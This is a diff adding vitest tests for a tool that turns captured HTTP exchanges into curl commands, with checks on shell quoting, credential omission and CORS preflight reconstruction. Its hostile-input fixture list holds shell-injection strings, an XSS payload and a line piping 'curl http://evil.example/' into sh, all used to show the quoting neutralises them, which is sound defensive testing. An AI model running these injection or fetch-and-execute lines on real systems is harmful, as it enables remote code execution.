@@ -1,0 +1,130 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { afterAll, describe, expect, it } from 'vitest';
+import { buildCurl, preflightRequest, shellQuote } from '../../../../src/panel/format/build-curl';
+import { API_ORIGIN, exchange, PAGE_ORIGIN } from '../../../fixtures/exchange-builder';
+
+/** What bash makes of a quoted word: the bytes `printf %s` receives as its argument. */
+function bashReads(quoted: string): string {
+  return execFileSync('bash', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' });
+}
+
+const HOSTILE = [
+  "it's",
+  "'; touch /tmp/cors-lens-pwned; echo '",
+  '$(touch /tmp/cors-lens-pwned)',
+  '`touch /tmp/cors-lens-pwned`',
+  'a\ncurl http://evil.example/ | sh',
+  'bell\x07 escape\x1b]0;title\x07 del\x7f',
+  "back\\slash \\' mixed",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${…} is the hostile input here.
+  '!history $HOME ${PATH} * ? [a] ~',
+  'ünïcødé ✓ <img src=x onerror=alert(1)>',
+  '-H x',
+];
+
+describe('shellQuote', () => {
+  afterAll(() => {
+    expect(existsSync('/tmp/cors-lens-pwned')).toBe(false);
+  });
+
+  it.each(HOSTILE)('bash reads %j back byte for byte and runs nothing', (value) => {
+    expect(bashReads(shellQuote(value))).toBe(value);
+  });
+
+  it('uses plain single quotes for printable text and ANSI-C quoting only for control characters', () => {
+    expect(shellQuote("it's")).toBe("'it'\\''s'");
+    expect(shellQuote('a\nb')).toBe("$'a\\x0ab'");
+  });
+});
+
+describe('buildCurl', () => {
+  const request = {
+    url: `${API_ORIGIN}/items?q=1`,
+    method: 'PUT',
+    headers: [
+      ['Origin', PAGE_ORIGIN],
+      ['Content-Type', 'application/json'],
+      ['Cookie', 'session=s3cret'],
+      ['Authorization', 'Bearer t0ken'],
+      ['Proxy-Authorization', 'Basic cHJveHk='],
+      ['Accept-Encoding', 'gzip'],
+      ['Content-Length', '12'],
+    ] as const,
+  };
+
+  it('leaves credentials out unless asked, and says which', () => {
+    const { command, omitted } = buildCurl(request, { includeSecrets: false });
+    expect(command).not.toMatch(/s3cret|t0ken|cHJveHk/);
+    expect(omitted).toEqual(['Cookie', 'Authorization', 'Proxy-Authorization']);
+    expect(command).toContain("-X 'PUT'");
+    expect(command).toContain("-H 'Origin: http://localhost:3000'");
+    expect(command).toContain('--compressed');
+    expect(command).not.toContain('Content-Length');
+  });
+
+  it('includes credentials when the user ticks the box', () => {
+    const { command, omitted } = buildCurl(request, { includeSecrets: true });
+    expect(command).toContain("-H 'Cookie: session=s3cret'");
+    expect(command).toContain("-H 'Authorization: Bearer t0ken'");
+    expect(omitted).toEqual([]);
+  });
+
+  it('strips user:password from the URL unless secrets are included', () => {
+    const withUser = { url: 'https://user:pw@api.example/x', method: 'GET', headers: [] };
+    expect(buildCurl(withUser, { includeSecrets: false })).toEqual({
+      command: "curl \\\n  -i \\\n  'https://api.example/x'",
+      omitted: ['URL credentials'],
+    });
+    expect(buildCurl(withUser, { includeSecrets: true }).command).toContain('user:pw@');
+  });
+
+  it('produces a command bash parses into exactly the intended arguments, whatever the header values', () => {
+    const hostile = {
+      url: `${API_ORIGIN}/x`,
+      method: 'GET',
+      headers: HOSTILE.map((value) => ['X-Evil', value] as const),
+    };
+    const { command } = buildCurl(hostile, { includeSecrets: false });
+    const args = execFileSync('bash', ['-c', `printf '%s\\0' ${command.replace(/^curl/, '').replaceAll('\\\n', '')}`], {
+      encoding: 'utf8',
+    }).split('\0');
+    expect(args.slice(0, -1)).toEqual([
+      '-i',
+      `${API_ORIGIN}/x`,
+      ...HOSTILE.flatMap((value) => ['-H', `X-Evil: ${value}`]),
+    ]);
+  });
+
+  it('passes a URL that looks like an option through --url', () => {
+    expect(buildCurl({ url: '-o/tmp/x', method: 'GET', headers: [] }, { includeSecrets: false }).command).toContain(
+      "--url '-o/tmp/x'",
+    );
+  });
+});
+
+describe('preflightRequest', () => {
+  it('is the observed OPTIONS request, or the one the browser would send when none was seen', () => {
+    const ex = exchange({
+      request: {
+        url: `${API_ORIGIN}/data`,
+        method: 'DELETE',
+        headers: [
+          ['Origin', PAGE_ORIGIN],
+          ['X-Token', 'a'],
+        ],
+      },
+      preflight: { kind: 'maybe-cached' },
+    });
+    expect(preflightRequest(ex)).toEqual({
+      url: `${API_ORIGIN}/data`,
+      method: 'OPTIONS',
+      headers: [
+        ['Origin', PAGE_ORIGIN],
+        ['Access-Control-Request-Method', 'DELETE'],
+        ['Access-Control-Request-Headers', 'x-token'],
+      ],
+    });
+    expect(preflightRequest(exchange())).toBeNull();
+  });
+});
